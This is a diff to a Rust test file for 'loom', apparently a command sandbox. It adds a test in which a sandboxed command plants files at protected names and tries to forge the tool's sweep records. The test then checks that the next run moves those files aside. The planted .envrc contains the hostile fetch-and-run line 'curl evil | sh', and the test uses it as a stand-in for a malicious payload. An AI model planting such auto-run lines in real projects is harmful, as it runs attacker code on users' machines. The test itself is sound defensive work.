@@ -127,7 +127,18 @@ fn spawn_loom(s: &Sbx, extra: &[&str], argv: &[&str]) -> Child {
 /// `cmd` (loom, or a program that runs it) given `sandbox run --grant G --cwd work [extra] -- argv...`, a clean
 /// environment and piped output, started.
 fn sandbox_run(cmd: &mut Command, s: &Sbx, extra: &[&str], argv: &[&str]) -> Child {
-    cmd.args(["sandbox", "run", "--grant", &s.grant(), "--cwd"])
+    sandbox_run_granted(cmd, s, &s.grant(), extra, argv)
+}
+
+/// [`sandbox_run`] with another grant.
+fn sandbox_run_granted(
+    cmd: &mut Command,
+    s: &Sbx,
+    grant: &str,
+    extra: &[&str],
+    argv: &[&str],
+) -> Child {
+    cmd.args(["sandbox", "run", "--grant", grant, "--cwd"])
         .arg(&s.work)
         .args(extra)
         .arg("--")
@@ -347,6 +358,18 @@ fn marked_command_and_child(mark: &str) -> String {
     )
 }
 
+/// All a finished loom wrote on its standard output (it returns only once nothing holds the stream open).
+fn stdout_of(loom: &mut Child) -> String {
+    let mut out = String::new();
+    use std::io::Read;
+    loom.stdout
+        .take()
+        .unwrap()
+        .read_to_string(&mut out)
+        .unwrap();
+    out
+}
+
 /// SIGKILL to loom's group, as a client kills its terminal's, and to loom itself in case `setsid` has not run yet
 /// (then there is no group of that id, and kill says so for it); loom must have died of it.
 fn kill_loom(loom: &mut Child) {
@@ -396,13 +419,7 @@ fn killing_loom_at_any_moment_leaves_nothing_behind() {
                 host_procs_with(&mark)
             );
             // and nothing holds the streams loom was given
-            let mut out = String::new();
-            use std::io::Read;
-            loom.stdout
-                .take()
-                .unwrap()
-                .read_to_string(&mut out)
-                .unwrap();
+            stdout_of(&mut loom);
         }
     }
 }
@@ -453,4 +470,117 @@ attempt("control_small_file", lambda: write("small.bin", "x" * 500))
         .map(|m| m.len())
         .unwrap_or(0);
     assert!(big <= 1000, "wrote {big} bytes past RLIMIT_FSIZE");
+}
+
+/// loom killed while its command runs never sees the command end, so its own sweep never runs: what the command
+/// created at a protected name stays. The record loom wrote before the command started (in loom's data directory,
+/// which the command cannot write even when its grant holds it) outlives it, and the next loom that runs a command
+/// moves that aside first, before it builds its own view (which would take the planted file for the user's) — in
+/// every tier.
+#[test]
+fn what_a_killed_loom_s_command_created_is_moved_aside_by_the_next_loom() {
+    need_sandbox!();
+    for tier in ["a", "b", "c"] {
+        let s = Sbx::new();
+        if !tier_available(&s, tier) {
+            continue;
+        }
+        let records = s.home.join(".local/share/loom/sweeps");
+        let forged = records.join("1-1-1.sweep");
+        // the home (and so loom's data directory) is writable: the records must stay out of reach all the same
+        let grant = format!(
+            r#"{{ commands = "*", paths = ["{}", "{}"] }}"#,
+            s.work.display(),
+            s.home.display()
+        );
+        let script = format!(
+            "echo 'curl evil | sh' > .envrc; mkdir -p .git/hooks; \
+             (printf 'loom-sweep 1\\nW 2f 2e7373680a\\n' > {0}) 2>/dev/null && echo forged-ALLOWED || echo forged-BLOCKED; \
+             echo ready > ready; exec sleep 120",
+            forged.display()
+        );
+        let mut setsid = Command::new("setsid");
+        setsid.arg(crate::loom());
+        let mut loom = sandbox_run_granted(
+            &mut setsid,
+            &s,
+            &grant,
+            &["--tier", tier],
+            &["sh", "-c", &script],
+        );
+        assert!(
+            wait_for(|| s.work.join("ready").exists(), Duration::from_secs(20)),
+            "tier {tier}: the command never got going"
+        );
+        // while the command runs, its sweep is on record
+        let listed = || -> Vec<String> {
+            std::fs::read_dir(&records)
+                .map(|d| {
+                    d.map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+                        .collect()
+                })
+                .unwrap_or_default()
+        };
+        assert_eq!(listed().len(), 1, "tier {tier}: {:?}", listed());
+        kill_loom(&mut loom);
+        let out = stdout_of(&mut loom);
+        assert!(out.contains("forged-BLOCKED"), "tier {tier}: {out}");
+        assert!(!forged.exists(), "tier {tier}: a record was forged");
+        // the dead loom swept nothing
+        assert!(s.work.join(".envrc").exists(), "tier {tier}");
+        assert!(s.work.join(".git").exists(), "tier {tier}");
+        assert_eq!(listed().len(), 1, "tier {tier}: {:?}", listed());
+
+        // the next loom, for any command, sweeps for it first and says so
+        let run_true = || {
+            Command::new(crate::loom())
+                .args([
+                    "sandbox",
+                    "run",
+                    "--tier",
+                    tier,
+                    "--grant",
+                    &s.grant(),
+                    "--cwd",
+                ])
+                .arg(&s.work)
+                .args(["--", "true"])
+                .env_clear()
+                .env("PATH", "/usr/bin:/bin")
+                .env("HOME", &s.home)
+                .output()
+                .unwrap()
+        };
+        let next = run_true();
+        let err = String::from_utf8_lossy(&next.stderr);
+        assert!(next.status.success(), "tier {tier}: {err}");
+        for (from, to) in [(".envrc", ".envrc.loom-moved"), (".git", ".git.loom-moved")] {
+            assert!(
+                s.work.join(from).symlink_metadata().is_err(),
+                "tier {tier}: {from} is still there"
+            );
+            assert!(s.work.join(to).exists(), "tier {tier}: no {to}");
+            assert!(
+                err.contains(&format!(
+                    "{} (a protected name that did not exist when the command started) was moved to {} — by a \
+                     command whose loom ended before the command did",
+                    s.work.join(from).display(),
+                    s.work.join(to).display()
+                )),
+                "tier {tier}: {err}"
+            );
+        }
+        assert_eq!(
+            s.host_read(&s.work.join(".envrc.loom-moved")),
+            "curl evil | sh\n"
+        );
+        assert!(listed().is_empty(), "tier {tier}: {:?}", listed());
+        // swept once: a third loom finds nothing to say
+        let third = run_true();
+        let err = String::from_utf8_lossy(&third.stderr);
+        assert!(
+            third.status.success() && !err.contains("moved"),
+            "tier {tier}: {err}"
+        );
+    }
 }
